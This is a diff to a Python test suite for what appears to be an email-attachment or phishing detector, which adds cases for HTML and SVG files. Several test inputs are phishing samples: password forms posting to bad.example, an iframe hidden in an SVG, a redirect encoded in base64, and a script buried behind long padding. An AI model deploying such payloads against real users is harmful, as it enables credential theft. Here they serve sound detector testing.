@@ -52,12 +52,26 @@ def test_a_file_that_is_written_into_a_page_is_taken_out(
             "<svg><foreignObject><iframe src='https://bad.example/'/></foreignObject></svg>",
             "drawing-leads-elsewhere",
         ),
+        (
+            "a.svg",
+            "<svg><foreignObject><form action='https://bad.example/'><input type='password'/></form></svg>",
+            "credential-form",
+        ),
+        ("a.svg", f"<!--{'x' * 9000}--><x:svg><x:script>eval('')</x:script></x:svg>", "drawing-leads-elsewhere"),
+        (
+            "a.html",
+            "<html><!--<svg--><form action='https://bad.example/'><input type=password></form>",
+            "credential-form",
+        ),
     ],
 )
-def test_what_hides_or_leads_away_is_suspicious(examine: Examine, name: str, page: str, rule: str) -> None:
+@pytest.mark.parametrize("charset", ["utf-8", "utf-16"])
+def test_what_hides_or_leads_away_is_suspicious(
+    examine: Examine, name: str, page: str, rule: str, charset: str
+) -> None:
     data = base64.b64encode(b"location='https://bad.example/'" * 3).decode()
     form = escaped("<form action='https://bad.example/'><input type=password>")
-    report = examine(page.replace("{data}", data).replace("{escaped}", form).encode(), name)
+    report = examine(page.replace("{data}", data).replace("{escaped}", form).encode(charset), name)
     assert rule in report.rules(name)
     assert report.root.verdict == "suspicious"
 
@@ -82,6 +96,7 @@ def test_a_page_that_was_hidden_is_looked_at_as_well(examine: Examine) -> None:
         ),
         ("a.html", f"<html><script>x = decodeURIComponent('{quote('Größe und Maße: äöü ßß ' * 9)}')</script>"),
         ("a.html", "<html><a href='https://good.example/'>read</a><script>var a = atob(b) + 'c';</script>"),
+        ("a.html", "<!doctype html><svg></svg><script>if (!user) { window.location.href = '/login' }</script>"),
         ("a.svg", "<svg xmlns='http://www.w3.org/2000/svg'><a href='https://good.example/'><text>x</text></a></svg>"),
         ("a.svg", "<svg><script>document.getElementById('a').setAttribute('fill', 'red')</script></svg>"),
     ],
@@ -100,6 +115,19 @@ def test_an_invitation_gives_its_links_and_attachments(examine: Examine, eicar: 
     assert [url.url for url in report.parsed.urls] == ["https://bad.example/x"]
     assert report.file("a:b.exe").verdict == "malicious"
     assert "embedded-program" in report.rules("a.ics")
+
+
+@pytest.mark.parametrize(
+    ("name", "begin", "mib", "limit"),
+    [
+        ("a.html", "<html>", 2, "page-bytes"),
+        ("a.svg", "<svg>", 2, "page-bytes"),
+        ("a.ics", "BEGIN:VCALENDAR\n", 4, "page-bytes"),
+        ("a.ps1", "param($x)\n", 2, "script-bytes"),
+    ],
+)
+def test_what_was_not_read_to_its_end_says_so(examine: Examine, name: str, begin: str, mib: int, limit: str) -> None:
+    assert examine(f"{begin}{' ' * mib * 1024 * 1024}".encode(), name).limits() == {limit}
 
 
 @pytest.mark.parametrize(
